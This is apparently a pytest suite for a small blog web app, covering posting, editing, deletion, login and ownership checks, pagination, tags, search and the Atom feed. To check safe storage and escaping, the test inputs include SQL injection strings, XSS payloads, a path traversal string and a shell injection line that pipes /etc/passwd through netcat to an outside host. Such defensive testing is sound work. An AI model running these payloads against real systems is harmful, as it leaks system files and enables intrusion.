from __future__ import annotations

import re

import pytest


def hrefs(page, rel):
    return re.findall(rf'<a rel="{rel}" href="([^"]+)"', page)


def test_index(client, ann, write):
    assert "Log out" in client.get("/").text
    write("A title", "text")

    assert "A title" in client.get("/").text


@pytest.mark.parametrize(
    ("title", "body"),
    [
        ("First", "On the reef."),
        ("Zoë’s <b>bold</b> & “quoted” title", "a\r\nb\r\n\r\nc"),
        ("SELECT * FROM fish; DROP TABLE post; --", "' OR '1'='1' UNION SELECT 1"),
        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
        ("../../etc/passwd", "; cat /etc/passwd | nc example.com 80 && $(id)"),
        ("日本語の題", "🐠" * 1000),
        ("Long", "word " * 60_000),
    ],
    ids=["plain", "marked up", "sql", "script", "shell", "japanese", "long"],
)
def test_write(client, ann, write, title, body):
    path = write(title, body)
    shown = client.get(path)

    assert shown.status_code == 200
    assert client.get("/api" + path).get_json()["title"] == title
    assert client.get("/api" + path).get_json()["body"] == body
    assert "<script>alert" not in shown.text


@pytest.mark.parametrize("path", ["/write", "/posts/1/edit"])
def test_a_title_is_required(client, ann, write, path):
    write()
    response = client.post(path, data={"title": " ", "body": "text"})

    assert response.status_code == 200
    assert "A title is required." in response.text


def test_edit(client, ann, write):
    path = write()
    assert "First" in client.get(path + "/edit").text
    response = client.post(path + "/edit", data={"title": "Second", "body": ""}, follow_redirects=True)

    assert "<h1>Second</h1>" in response.text


def test_delete(client, ann, write):
    path = write(tags="reef")
    assert client.post(path + "/delete").location == "/"

    assert client.get(path).status_code == 404
    assert client.get("/tag/reef").status_code == 404


def test_delete_wants_a_post(client, ann, write):
    assert client.get(write() + "/delete").status_code == 405


@pytest.mark.parametrize(
    ("method", "path"), [("GET", "/write"), ("POST", "/posts/1/edit"), ("POST", "/posts/1/delete")]
)
def test_writing_wants_a_login(client, method, path):
    response = client.open(path, method=method)

    assert response.status_code == 302
    assert response.location.startswith("/auth/login")


def test_posts_of_others_are_left_alone(client, auth, ann, write):
    path = write()
    auth.register("bob")
    auth.login("bob")

    assert client.post(path + "/edit", data={"title": "Mine"}).status_code == 403
    assert client.post(path + "/delete").status_code == 403
    assert "Delete" not in client.get(path).text


def test_pages(client, ann, write):
    for number in range(12):
        write(f"Post {number}")

    assert client.get("/").text.count("<article>") == 5
    assert client.get(hrefs(client.get("/?page=2").text, "next")[0]).text.count("<article>") == 2
    assert client.get("/?page=nonsense").text.count("<article>") == 5


TAGS = [
    "reef",
    "c++",
    "c#",
    "node.js",
    ".net",
    "50%",
    "café",
    "rock & roll",
    "who?",
    "a=b",
    "AC/DC",
    "日本",
    "it's",
    "a:b",
]


def test_tags(client, ann, write):
    path = write(tags=", ".join(TAGS))
    links = hrefs(client.get(path).text.replace("&#39;", "'").replace("&amp;", "&"), "tag")
    pages = [client.get(link) for link in links]

    assert len(pages) == len(TAGS)
    assert [page.status_code for page in pages] == [200] * len(TAGS)
    assert all("First" in page.text for page in pages)


QUERIES = [
    "reef",
    "on the reef",
    "Zoë",
    "100%",
    "c++",
    "a&b=c",
    "' OR 1=1 --",
    "<script>",
    '"quoted"',
    "#tag",
    "?",
    "a|b",
    "{x}",
    "..",
    "\\",
]


def test_search(client, ann, write):
    for query in QUERIES:
        write(f"Found {query} here", body=query)
        response = client.get("/search", query_string={"q": f"Found {query} here"})
        assert "1 found" in response.text, query

    assert "0 found" in client.get("/search", query_string={"q": "nowhere"}).text
    assert "0 found" in client.get("/search", query_string={"q": ""}).text


def test_search_takes_any_query(client):
    for query in ("", "?", "?q", "?q=&q=reef", "?q=reef&utm_source=a%20b", "?q=reef;x=1", "?q=a+b%2Bc", "?a[]=1&a[]=2"):
        assert client.get("/search" + query).status_code == 200, query


def test_feed(client, ann, write):
    write("One & two")
    response = client.get("/feed.xml")

    assert response.mimetype == "application/atom+xml"
    assert "<title>One &amp; two</title>" in response.text
    assert re.search(r'<link href="https?://[^/"]+/posts/1"/>', response.text)


def test_head_and_options(client, ann, write):
    path = write()

    assert client.head(path).status_code == 200
    assert client.head(path).data == b""
    assert "POST" in client.options("/write").headers["Allow"]
